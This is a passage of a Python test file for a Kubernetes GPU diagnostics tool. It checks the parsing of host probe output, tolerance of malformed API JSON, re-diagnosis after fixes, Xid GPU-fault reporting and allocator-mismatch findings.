    probe = (ROOT / "tests" / "fixtures" / "h200" / "probe.txt").read_text()
    extra = ("@@gpuk8s-begin doctor-sockets\nkubelet.sock\nnvidia-gpu.sock\n@@gpuk8s-end doctor-sockets 0\n"
             "@@gpuk8s-begin doctor-devchar\n0\n@@gpuk8s-end doctor-devchar 0\n"
             "@@gpuk8s-begin doctor-devnodes\nnvidia0\nnvidiactl\n@@gpuk8s-end doctor-devnodes 0\n")
    h = evidence.parse_host(probe + extra, "containerd")
    assert h.facts is not None and h.sockets == ("kubelet.sock", "nvidia-gpu.sock") and h.dev_char_links == 0
    assert h.dev_nodes == ("nvidia0", "nvidiactl") and not h.unreachable
    assert h.lines()[0].startswith("nvidia-smi: 1 GPU(s), driver 580.159.04")
    assert h.envvar_unprivileged is None  # the toolkit's setting not in its config: its default (true)
    toolkit = ("@@gpuk8s-begin doctor-toolkit\n  accept-nvidia-visible-devices-envvar-when-unprivileged = false\n"
               "@@gpuk8s-end doctor-toolkit 0\n")
    h = evidence.parse_host(probe + extra + toolkit, "containerd")
    assert h.envvar_unprivileged is False
    assert "/etc/nvidia-container-runtime/config.toml: accept-nvidia-visible-devices-envvar-when-unprivileged = " \
        "false" in h.lines()
    h = evidence.parse_host(probe + extra + toolkit.replace("false", "true"), "containerd")
    assert h.envvar_unprivileged is True and not any("envvar" in x for x in h.lines())
    commented = toolkit.replace("= false", "= false  # hardening").replace("accept-", '"accept-', 1) \
        .replace("unprivileged =", 'unprivileged" =')
    assert evidence.parse_host(probe + extra + commented, "containerd").envvar_unprivileged is False
    bare = evidence.parse_host(probe, "containerd")  # an older probe without doctor's sections: unknown, not empty
    assert bare.sockets is None and bare.dev_char_links is None and bare.envvar_unprivileged is None
    bad = evidence.parse_host("sudo: a password is required\n", "containerd")
    assert bad.facts is None and bad.unreachable.startswith("the probe printed nothing usable")
    assert bad.lines() == [f"over SSH: {bad.unreachable}"]
    # the script is the probe and doctor's sections, nothing interpolated
    assert diagnose_mod.SCRIPT.startswith(diagnose_mod.PROBE) and "quick doctor-sockets sockets" in diagnose_mod.SCRIPT


@pytest.mark.parametrize("junk", [None, 5, "x", [1, "a", None], {"a": [None]}, {"containers": "x"}])
def test_any_api_json_gives_a_value(junk: Any) -> None:
    """The API's JSON is data: odd shapes anywhere give a diagnosis (maybe empty), never an exception."""
    from gpuk8s.kube import allocation as al

    weird_pod = {"metadata": {"name": "w", "namespace": "ml"},
                 "spec": {"containers": junk, "initContainers": junk, "nodeSelector": junk, "tolerations": junk,
                          "affinity": junk, "nodeName": "gpu-1" if junk is None else ""},
                 "status": {"phase": "Pending", "conditions": junk, "containerStatuses": junk}}
    weird_node = {"metadata": {"name": "gpu-1", "labels": junk}, "spec": {"taints": junk},
                  "status": {"allocatable": junk, "capacity": junk, "conditions": junk}}
    ev = ClusterEvidence({"gpu-1": weird_node}, [weird_pod], [event(weird_pod, text("scheduler-mixed.txt"))],
                         plans={"gpu-1": plan("gpu-1", 2)})
    assert isinstance(classify.pod_causes(weird_pod, ev), list)
    assert isinstance(classify.node_causes("gpu-1", ev), list)
    assert isinstance(classify.troubled(weird_pod), bool)
    assert isinstance(al.allocation([weird_node], [weird_pod]).footer(), list)


def test_after_a_fix_the_diagnosis_is_taken_again_while_a_fixed_node_shows_a_cause() -> None:
    from gpuk8s.commands.doctor import Diagnosis, settle

    sick = ClusterEvidence({"gpu-1": node("gpu-1", 0)}, [plugin_pod("gpu-1")], plans={"gpu-1": plan("gpu-1", 2)},
                           plugin=PLUGIN, hosts={"gpu-1": host(default_runtime="nvidia")})
    bad = Diagnosis(sick, [], ["gpu-1"], classify.node_causes("gpu-1", sick))
    assert bad.findings
    good = Diagnosis(sick, [], ["gpu-1"], [])
    seen = [bad, bad, good]
    calls: list[int] = []

    def again() -> Diagnosis:
        calls.append(1)
        return seen[len(calls)]

    assert settle(bad, again, {"gpu-1"}, timeout=5, every=0.01) is good and len(calls) == 2
    # a cause on a node the fix did not touch: not waited for
    calls.clear()
    assert settle(bad, again, {"gpu-2"}, timeout=5, every=0.01) is bad and calls == []
    # a pod's cause on a fixed node (the pod keeps its sandbox's runtime until it is made again): not waited for
    p = pod("smi", {"nvidia.com/gpu": "1"}, on="gpu-1", phase="Failed")
    p["status"]["containerStatuses"] = [{"name": "c", "state": {"terminated": {
        "reason": "StartError", "message": 'exec: "nvidia-smi": executable file not found in $PATH'}}}]
    pev = dataclasses.replace(sick, pods=[p], hosts={"gpu-1": host(default_runtime="runc")})
    podbad = Diagnosis(pev, [("ml", "smi")], [], classify.pod_causes(p, pev))
    assert [f.id for f in podbad.findings] == ["pod.no-nvidia-runtime"]
    assert settle(podbad, again, {"gpu-1"}, timeout=5, every=0.01) is podbad
    # never better: the last diagnosis when the time is up
    calls.clear()
    assert settle(bad, lambda: (calls.append(1), bad)[1], {"gpu-1"}, timeout=0.05, every=0.01) is bad
    assert 1 <= len(calls) <= 5


def test_a_gpu_lost_to_an_xid_is_named_from_the_kernels_line_and_nvidias_catalogue() -> None:
    """Issue 32: a node short of one GPU whose plugin log says nothing of it (the GPU fell off the bus before the
    plugin started): the host's kernel log (the section gpuk8s health reads, real text of pop-os/pop#3363) names
    the Xid, its meaning and NVIDIA's action."""
    from pathlib import Path

    from gpuk8s.facts.health import parse_kernel_log

    real = Path(__file__).resolve().parents[1] / "fixtures" / "real" / "health"
    kernel = parse_kernel_log((real / "kernel-xid-79-no-pid-journalctl-pop-3363.txt").read_text().split("\n---\n")[1])
    ready = host(default_runtime="nvidia").facts
    assert ready is not None
    seven = dataclasses.replace(ready, gpu=dataclasses.replace(ready.gpu, gpus=ready.gpu.gpus[:1]))
    ev = ClusterEvidence({"gpu-1": node("gpu-1", 1, {gpuplan.GPU_PRESENT: "true"})}, [plugin_pod("gpu-1")],
                         plans={"gpu-1": plan("gpu-1", 2)}, plugin=PLUGIN,
                         logs={("kube-system", "nvidia-device-plugin-daemonset-gpu-1"): text("plugin-registered.log")},
                         hosts={"gpu-1": HostEvidence(seven, "containerd", ("nvidia-gpu.sock", "kubelet.sock"), 0,
                                                      kernel=kernel)})
    [f] = classify.node_causes("gpu-1", ev)
    assert f.id == "gpu.fewer-registered"
    assert "the kernel reports a GPU fault (Xid 79) and it is no longer advertised: GPU has fallen off the bus" \
        in f.message
    assert "kernel: NVRM: Xid (PCI:0000:01:00): 79, GPU has fallen off the bus." in f.evidence
    assert "reboot" in f.remedy and "gpuk8s health gpu-1" in f.remedy
    # without the kernel's line (and nothing in the plugin's log) it stays the count, not a guessed Xid
    plain = dataclasses.replace(ev, hosts={"gpu-1": HostEvidence(seven, "containerd", ("nvidia-gpu.sock",), 0)})
    [g] = classify.node_causes("gpu-1", plain)
    assert "Xid" not in g.message


def test_doctor_names_a_node_on_another_allocator_as_verify_does() -> None:
    """Issue 45: node.allocator-differs and dra.double-served were verify's alone; doctor asks the same verdicts
    (kube/dra.py) and names the move instead of a plugin that is "not scheduled"."""
    from gpuk8s.kube import dra

    on_dra = node("gpu-1", 0, {gpuplan.ALLOCATOR_LABEL: "dra"})
    ev = ClusterEvidence({"gpu-1": on_dra}, [], plans={"gpu-1": plan("gpu-1", 2)}, plugin=PLUGIN)
    [f] = classify.node_causes("gpu-1", ev)
    assert f.id == "node.allocator-differs" and "gpuk8s allocator gpu-1 --to device-plugin" in f.remedy
    assert classify.fixable(f, ev) == ""  # a move drains the node: never a fix done behind the user's back
    # on its allocator, the other one still offering its GPUs: both would hand them out
    served = node("gpu-1", 2, {gpuplan.GPU_PRESENT: "true"})
    slices = {"gpu-1": dra.NodeDevices(devices=[dra.Device("gpu-0", "gpu")])}
    ev = ClusterEvidence({"gpu-1": served}, [plugin_pod("gpu-1")], plans={"gpu-1": plan("gpu-1", 2)}, plugin=PLUGIN,
                         dra=slices)
    assert ids(classify.node_causes("gpu-1", ev)) == ["dra.double-served"]
    assert ids(classify.node_causes("gpu-1", dataclasses.replace(ev, dra={}))) == []
